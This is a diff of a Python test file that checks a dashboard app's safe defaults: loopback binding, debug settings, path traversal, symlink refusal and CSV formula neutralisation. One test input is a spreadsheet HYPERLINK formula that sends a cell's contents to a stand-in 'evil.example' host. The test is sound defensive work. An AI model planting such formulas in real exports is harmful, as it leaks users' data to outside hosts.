@@ -1,4 +1,4 @@
-"""Safe defaults (issue 7, item 4), each with a test.
+"""Safe defaults, each with a test.
 
 - `serve` binds 127.0.0.1 unless told otherwise, and warns on stderr when the
   address lets other machines in (all interfaces, or a LAN address).
@@ -36,7 +36,6 @@ from dashboard.render import batch as render_batch_module
 from dashboard.render import export_figure as export_module
 from dashboard.render.export_figure import ImageOptions
 from dashboard.render.exporter import Exporter
-from dashboard.sources.dataset import load_dataset
 from dashboard.sources.paths import assets_dir
 from dashboard.testing import new_exporter
 from dashboard.web.app import Settings, create_app, create_server
@@ -81,6 +80,7 @@ def test_the_default_server_listens_on_loopback_only(live_server):
     assert _listening(live_server.port) == ["127.0.0.1"]
 
 
+@pytest.mark.slow
 @needs_proc
 def test_all_interfaces_give_a_warning_on_stderr():
     server = LiveServer(["--host", "0.0.0.0"])
@@ -132,7 +132,11 @@ def fake_run(monkeypatch):
     from dash import Dash
 
     fake = _FakeRun()
-    monkeypatch.setattr(Dash, "run", lambda self, **kwargs: fake(self, **kwargs))
+
+    def run(self, **kwargs) -> None:  # a function, so that Dash binds it as a method
+        fake(self, **kwargs)
+
+    monkeypatch.setattr(Dash, "run", run)
     monkeypatch.delenv("WERKZEUG_RUN_MAIN", raising=False)
     return fake
 
@@ -148,6 +152,7 @@ DEBUG_OPTIONS = (
 )
 
 
+@pytest.mark.slow
 def test_run_server_without_debug_switches_every_debug_option_off(fake_run, monkeypatch, capsys):
     """Without --debug: waitress, never Werkzeug (Dash.run), and every dev tool off."""
     from dashboard.web import server as server_module
@@ -169,6 +174,7 @@ def test_run_server_without_debug_switches_every_debug_option_off(fake_run, monk
     assert "warning" not in capsys.readouterr().err
 
 
+@pytest.mark.slow
 def test_run_server_with_debug(fake_run, capsys):
     run_server(Settings(debug=True), host="0", port=free_port())
     assert all(fake_run.kwargs[name] is True for name in DEBUG_OPTIONS)
@@ -176,7 +182,7 @@ def test_run_server_with_debug(fake_run, capsys):
 
 
 def _dash_config(html: str) -> dict:
-    match = re.search(r'<script id="_dash-config" type="application/json">(.*?)</script>', html, re.S)
+    match = re.search(r'<script id="_dash-config" type="application/json">(.*?)</script>', html, re.DOTALL)
     assert match, html[:500]
     return json.loads(match.group(1))
 
@@ -188,6 +194,7 @@ def _get(url: str) -> str:
         return response.read().decode()
 
 
+@pytest.mark.slow
 def test_debug_env_variables_do_not_switch_debug_on(tmp_path):
     env = {**os.environ, "DASH_DEBUG": "true", "FLASK_DEBUG": "1", "DASH_DEV_TOOLS_UI": "true"}
     server = LiveServer([], env=env)
@@ -199,6 +206,7 @@ def test_debug_env_variables_do_not_switch_debug_on(tmp_path):
         server.stop()
 
 
+@pytest.mark.slow
 def test_debug_only_with_the_debug_flag(live_server):
     config = _dash_config(_get(live_server.url + "/"))
     assert config["ui"] is False and config["props_check"] is False
@@ -206,6 +214,7 @@ def test_debug_only_with_the_debug_flag(live_server):
     assert _dash_config(create_app(Settings()).server.test_client().get("/").data.decode())["ui"] is False
 
 
+@pytest.mark.slow
 def test_debug_flag_turns_dev_tools_on():
     """`serve --debug` works (the reloader's child reuses its parent's socket) and shows the dev tools."""
     # A group of its own: the reloader runs the server in a child process, stopped with the group.
@@ -291,6 +300,7 @@ def _check(status: int, body: bytes, path: str) -> None:
         assert secret not in body, (path, secret)
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("path", TRAVERSALS + LISTINGS)
 def test_paths_in_process(path):
     client = create_app(Settings()).server.test_client()
@@ -320,6 +330,7 @@ def test_paths_over_http(own_server):
     assert live_server.process.poll() is None
 
 
+@pytest.mark.slow
 def test_assets_are_served_and_hardened():
     client = create_app(Settings()).server.test_client()
     response = client.get("/assets/topojson/europe_110m.json")
@@ -340,6 +351,7 @@ def test_assets_hold_no_links_out():
 # CSV formula injection
 
 
+@pytest.mark.slow
 def test_statements_csv_neutralises_formulas(tmp_path):
     summaries = [
         '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
@@ -370,6 +382,7 @@ def test_statements_csv_neutralises_formulas(tmp_path):
     done = subprocess.run(
         [sys.executable, "-m", "dashboard", "statements", "--no-bundled", "--claims", str(path), "--format", "csv"],
         cwd=REPO,
+        check=False,
         capture_output=True,
         text=True,
         timeout=120,
@@ -394,8 +407,8 @@ def test_statements_csv_neutralises_formulas(tmp_path):
 
 
 @pytest.fixture(scope="module")
-def data():
-    return load_dataset()
+def data(bundled_data):
+    return bundled_data
 
 
 @pytest.fixture
@@ -441,8 +454,8 @@ def test_batch_export_does_not_follow_a_symlink_out(tmp_path, data, fake_render)
     victim = elsewhere / "precious.png"
     victim.write_bytes(b"precious")
     (out / export_module.file_name(state, ImageOptions())).symlink_to(victim)
-    # A symlink in place of an image is refused wherever it points (issue 10, item 7).
-    with pytest.raises(DashboardError, match="refusing to replace .*symbolic link"):
+    # A symlink in place of an image is refused wherever it points.
+    with pytest.raises(DashboardError, match=r"refusing to replace .*symbolic link"):
         export_batch(data, new_exporter(), [state], ImageOptions(), out)
     assert victim.read_bytes() == b"precious"
 
